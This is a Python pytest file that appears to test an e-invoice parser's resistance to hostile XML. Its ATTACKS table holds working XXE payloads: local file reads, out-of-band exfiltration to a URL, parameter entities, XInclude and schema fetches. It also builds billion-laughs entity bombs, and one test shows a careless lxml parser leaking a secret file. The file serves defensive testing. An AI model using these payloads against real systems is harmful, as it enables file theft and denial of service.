"""R7: XML that wants to read files, call out or blow up is refused; the kernel saw nothing opened and nobody called."""

from __future__ import annotations

import json
import random
import resource
import socket
import subprocess
import sys
from collections.abc import Callable
from pathlib import Path

import pytest
from lxml import etree

from counterfoil.formats import cii, ubl
from tests.plugins.figures import Figure, chance
from tests.plugins.loud_skips import need_tool
from tests.plugins.repeatable import is_full_size
from tests.support import strace
from tests.support.received import AN_INVOICE

pytestmark = pytest.mark.strace

FILES = 500 if is_full_size() else 50
MARK = "zq-what-nobody-may-read"
ROOT = Path(__file__).parents[2]
INVOICES = {"cii": cii.write(AN_INVOICE), "ubl": ubl.write(AN_INVOICE)}
ENCODINGS = ("utf-8", "utf-16", "utf-16-le", "latin-1", "utf-8-sig")
Attack = Callable[[random.Random, str, str], tuple[str, str]]


def nested(chances: random.Random) -> str:
    """Entities of entities: the bomb, and its quadratic sister."""
    if chances.random() < 0.3:
        return f'<!DOCTYPE a [<!ENTITY e0 "{"x" * 50_000}"><!ENTITY e "{"&e0;" * 2_000}">]>'
    wide, deep = chances.randint(5, 20), chances.randint(5, 60)
    inner = "".join(f'<!ENTITY e{n} "{f"&e{n - 1};" * wide}">' for n in range(1, deep))
    return f'<!DOCTYPE a [<!ENTITY e0 "ha">{inner}<!ENTITY e "&e{deep - 1};">]>'


# What goes before the root, and what goes into a text of the invoice, given a file to read and a URL to call.
ATTACKS: dict[str, Attack] = {
    "file": lambda _c, file, _u: (f'<!DOCTYPE a [<!ENTITY e SYSTEM "file://{file}">]>', "&e;"),
    "path": lambda _c, file, _u: (f'<!DOCTYPE a [<!ENTITY e SYSTEM "{file}">]>', "&e;"),
    "public": lambda _c, file, url: (f'<!DOCTYPE a [<!ENTITY e PUBLIC "{url}" "file://{file}">]>', "&e;"),
    "network": lambda _c, _f, url: (f'<!DOCTYPE a [<!ENTITY e SYSTEM "{url}/e">]>', "&e;"),
    "dtd": lambda _c, _f, url: (f'<!DOCTYPE a SYSTEM "{url}/a.dtd">', "x"),
    "dtd file": lambda _c, file, _u: (f'<!DOCTYPE a SYSTEM "file://{file}">', "x"),
    "parameter": lambda _c, _f, url: (f'<!DOCTYPE a [<!ENTITY % p SYSTEM "{url}/p"> %p;]>', "x"),
    "out of band": lambda _c, file, url: (
        f'<!DOCTYPE a [<!ENTITY % f SYSTEM "{file}"><!ENTITY % p "<!ENTITY e SYSTEM \'{url}/%f;\'>">%p;]>', "&e;",
    ),
    "attribute": lambda _c, file, _u: (f'<!DOCTYPE a [<!ATTLIST a b ENTITY "e"><!ENTITY e SYSTEM "{file}">]>', "x"),
    "bomb": lambda chances, _f, _u: (nested(chances), "&e;"),
    "stylesheet": lambda _c, file, url: (f'<?xml-stylesheet href="{url}/s.xsl"?><!DOCTYPE a SYSTEM "{file}">', "x"),
    "include": lambda _c, file, _u: (
        "<!DOCTYPE a>", f'<i:include xmlns:i="http://www.w3.org/2001/XInclude" href="file://{file}" parse="text"/>',
    ),
    "include alone": lambda _c, file, _u: (
        "", f'<i:include xmlns:i="http://www.w3.org/2001/XInclude" href="file://{file}" parse="text"/>',
    ),
    "schema": lambda _c, file, url: (
        "", f'<b xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:schemaLocation="{url} file://{file}"/>',
    ),
    "unknown entity": lambda _c, _f, _u: ("", "&e;"),
}  # fmt: skip


def attack(chances: random.Random, name: str, file: Path, url: str) -> bytes:
    """An invoice with the attack in it, in one of the encodings that are read."""
    before, within = ATTACKS[name](chances, str(file), url)
    text = chances.choice(list(INVOICES.values())).decode()
    declaration, _, rest = text.partition("?>")
    space = chances.choice(["", "\n", " " * chances.randint(1, 500), f"<!-- {'x' * chances.randint(0, 900)} -->"])
    encoding = chances.choice(ENCODINGS)
    head = declaration.replace("UTF-8", encoding.removesuffix("-sig").removesuffix("-le").upper()) + "?>"
    return (head + space + before + rest.replace("Beratung", within)).encode(encoding, "xmlcharrefreplace")


def test_nothing_is_opened_and_nobody_called_while_hostile_xml_is_read(tmp_path: Path, figure: Figure) -> None:
    # Given a file with a secret, a listener, and files that want both
    chances = chance("hostile xml")
    secret = tmp_path / "secret.txt"
    secret.write_text(MARK)
    folder = tmp_path / "hostile"
    folder.mkdir()
    with socket.create_server(("127.0.0.1", 0)) as listener:
        url = f"http://127.0.0.1:{listener.getsockname()[1]}"
        names = [list(ATTACKS)[number % len(ATTACKS)] for number in range(FILES)]
        for number, name in enumerate(names):
            (folder / f"{number:04}.xml").write_bytes(attack(chances, name, secret, url))
        # When a process reads all of them
        log = tmp_path / "strace.log"
        command = [*strace.command(need_tool("strace"), log), sys.executable, "-m", "tests.reliability.xml_reader"]
        done = subprocess.run(
            [*command, str(folder), MARK], cwd=ROOT, capture_output=True, text=True, timeout=600, check=True
        )
        listener.settimeout(0.05)
        with pytest.raises(TimeoutError):
            listener.accept()
    # Then none of them was let in, and the process opened no file and called nobody
    said = json.loads(done.stdout.splitlines()[-1])
    with_type = sum(bool(ATTACKS[name](chances, "f", "u")[0]) for name in names)
    assert said["leaked"] == 0
    assert said["files"] == FILES
    assert said["refused"] >= with_type
    trace = strace.read(log)
    assert trace.files_after_ready == ()
    assert trace.sockets == ()
    figure("R7", "hostile XML: entities, DTDs, includes, bombs", FILES, "files", "0 files opened, 0 sockets")


def test_the_check_sees_a_parser_that_reads_a_file(tmp_path: Path) -> None:
    secret = tmp_path / "secret.txt"
    secret.write_text(MARK)
    careless = etree.fromstring(
        f'<!DOCTYPE a [<!ENTITY e SYSTEM "file://{secret}">]><a>&e;</a>',
        etree.XMLParser(resolve_entities=True, load_dtd=True, no_network=False),
    )
    assert careless.text == MARK


def test_a_bomb_costs_no_memory() -> None:
    from counterfoil.domain.received_einvoice import Unreadable
    from counterfoil.formats.read import read

    before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
    for seed in range(5):
        with pytest.raises(Unreadable):
            read(attack(random.Random(seed), "bomb", Path("/x"), "http://127.0.0.1:9"))
    assert resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before < 200_000
